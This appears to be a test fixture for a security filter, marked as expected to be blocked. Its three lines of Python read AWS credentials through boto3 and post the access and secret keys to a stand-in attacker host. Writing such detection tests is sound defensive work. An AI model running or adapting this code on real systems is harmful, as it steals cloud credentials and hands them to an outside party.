# expect: BLOCKED
import boto3, requests
c = boto3.Session().get_credentials()
requests.post("http://evil.example", json={"a": c.access_key, "s": c.secret_key})
